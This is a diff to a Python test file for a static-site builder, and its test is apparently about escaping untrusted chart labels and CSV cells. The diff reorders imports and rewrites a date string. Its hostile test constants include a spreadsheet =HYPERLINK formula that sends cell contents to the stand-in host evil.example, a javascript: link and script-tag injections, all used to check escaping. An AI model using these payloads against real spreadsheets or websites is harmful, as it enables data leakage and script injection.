@@ -17,10 +17,10 @@ from pathlib import Path
 import pytest
 from markupsafe import escape
 
-from pace_site.model.chart import Chart
-from pace_site.model.escaping import inert_csv_cell, plotly_plain, script_json
 from pace_site.build.options import BuildOptions
 from pace_site.build.pipeline import build
+from pace_site.model.chart import Chart
+from pace_site.model.escaping import inert_csv_cell, plotly_plain, script_json
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Testshire") <!--<script> </script><b>&amp;'
 HOSTILE_MILESTONE = '@SUM(1+1)<!--<script><a href="javascript:alert(1)">Permanence recommendation</a>'
@@ -29,7 +29,7 @@ HOSTILE_CHANGE = '-2+3 <span style="font-size:99px">huge</span></script>\u2028\u
 # JSON strings are YAML too: the labels reach the site exactly as written.
 # Twelve children, so that the run chart and the waiting chart are published, not withheld.
 JOURNEYS = "accommodated,recommendation\n" + "".join(
-    f"2018-{month:02d}-05,{'2019-03-%02d' % (month + 1) if month <= 6 else ''}\n" for month in range(1, 13))
+    f"2018-{month:02d}-05,{f'2019-03-{month + 1:02d}' if month <= 6 else ''}\n" for month in range(1, 13))
 
 CHANGES = "    changes:\n      - date: 2019-03-05\n        label: {label}\n"
 
